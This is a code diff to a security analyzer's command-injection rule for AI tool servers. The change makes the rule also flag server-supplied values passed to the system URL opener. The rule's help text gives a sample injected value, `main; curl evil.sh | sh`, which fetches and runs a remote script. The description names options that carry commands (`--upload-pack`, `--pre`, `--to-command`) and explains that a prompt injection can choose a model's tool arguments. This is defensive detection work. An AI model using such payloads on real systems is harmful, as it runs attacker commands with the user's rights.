@@ -3,9 +3,11 @@
 // option of a program run without a shell.
 import { propertyName, unwrapExpression } from "../analyzer/parse/ast.js";
 import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, OPTION_VALUE, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
-import { NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
+import { type Flow, NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
 import type { Rule, RuleContext } from "./types.js";
 import { fetchedTextRuns } from "./download-and-execute.js";
+import { URL_OPENER_KIND } from "./models/process.js";
+import { URL_PATH } from "../analyzer/taint/url-shapes.js";
 import { optionInjectionReach, runsOperandsAsCode } from "./models/commands.js";
 import { argumentVectorRisk } from "./util/argument-vector.js";
 import { declaredCapability } from "./util/declared-purpose.js";
@@ -52,7 +54,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`).",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line, or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`).",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -148,19 +150,31 @@ function shellLineProgram(hit: SinkHit): { program?: string; subcommand?: string
  * command itself is download-and-execute's; this is the operand case.
  */
 function reportResponseValuesInShellLines(ctx: RuleContext, skip: ReadonlySet<SinkHit>): void {
+  const responseFlow = (hit: SinkHit) => hit.flows.find((f) => f.label.kind === RESPONSE_KIND && !f.sanitizedFor.includes("command-injection") && !f.sanitizedFor.includes("*") && !f.guards.some((g) => GUARDS.includes(g)));
   for (const hit of ctx.taint.hitsOf("command-injection")) {
     if (skip.has(hit)) continue;
     const programPosition = hit.argument === "Argument[0]" && !SHELL_STRING_API.test(hit.callee) && !hasShellOption(hit);
     if (programPosition || fetchedTextRuns(hit)) continue;
-    const flow = hit.flows.find((f) => f.label.kind === RESPONSE_KIND && !f.sanitizedFor.includes("command-injection") && !f.sanitizedFor.includes("*") && !f.guards.some((g) => GUARDS.includes(g)));
+    const flow = responseFlow(hit);
     if (!flow) continue;
-    ctx.report({
-      message: `A value from a network response (${flow.label.name}) reaches ${hit.callee} as part of a shell command line: whoever answers that request writes part of the command`,
-      severity: "medium",
-      location: hit.location,
-      path: flow.path.length > 0 ? flow.path : undefined,
-      fix: "Open URLs without a shell (execFile/spawn with an argument array, after checking the scheme is http(s)), or allow-list the value.",
-      fingerprintKey: `response|${hit.callee}|${hit.argument}`,
-    });
+    reportResponseValue(ctx, hit, flow, "as part of a shell command line: whoever answers that request writes part of the command");
   }
+  // The system opener starts what a target names: a server's answer picks the app or file (on Windows, part of a command line).
+  // A piece after a fixed URL's authority (a query value, a path) cannot change what is opened.
+  for (const hit of ctx.taint.hitsOf(URL_OPENER_KIND)) {
+    const flow = responseFlow(hit);
+    if (!flow || shapeOf(ctx, flow, hit).includes(URL_PATH)) continue;
+    reportResponseValue(ctx, hit, flow, "as the target the system opener starts: whoever answers that request picks what is opened (an app, a file: URL; on Windows through a command line)");
+  }
+}
+
+function reportResponseValue(ctx: RuleContext, hit: SinkHit, flow: Flow, what: string): void {
+  ctx.report({
+    message: `A value from a network response (${flow.label.name}) reaches ${hit.callee} ${what}`,
+    severity: "medium",
+    location: hit.location,
+    path: flow.path.length > 0 ? flow.path : undefined,
+    fix: "Check that the URL's scheme is http(s) (and its host the one expected) before opening it, open it without a shell (execFile/spawn with an argument array), or allow-list the value.",
+    fingerprintKey: `response|${hit.callee}|${hit.argument}`,
+  });
 }
